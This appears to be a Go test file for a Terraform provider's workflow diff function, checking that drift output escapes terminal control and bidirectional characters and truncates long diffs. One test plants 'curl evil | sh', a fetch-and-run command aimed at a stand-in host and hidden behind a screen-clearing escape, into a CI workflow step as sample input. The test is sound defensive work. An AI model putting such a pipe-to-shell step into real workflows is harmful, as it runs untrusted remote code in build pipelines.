package workflow_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tidegatehq/terraform-provider-tidegate/internal/workflow"
)

func TestADriftIsToldInTheLinesOfTheFile(t *testing.T) {
	t.Parallel()
	before := "name: fraud\non: push\n\n# The tests.\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
	want := "@@ 5 lines are the same @@\n    test:\n      runs-on: ubuntu-latest\n      steps:\n-       - run: make\n+       - run: curl evil\\x1b[2J | sh\n"
	got := workflow.Diff(before, strings.Replace(before, "make", "curl evil\x1b[2J | sh", 1))
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	for text, want := range map[string]string{"a: ü\ta\u202eb\xff\n": "+ a: ü\ta\\u202eb\\xff\n", "": ""} {
		if got := workflow.Diff("", text); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestALongDriftEnds(t *testing.T) {
	t.Parallel()
	got := workflow.Diff("", strings.Repeat("a\n", 5000))
	if n := strings.Count(got, "\n"); n != 301 || !strings.HasSuffix(got, "+ a\n(4700 more lines are not shown)\n") {
		t.Errorf("%d lines, ending %q", n, got[len(got)-50:])
	}
}
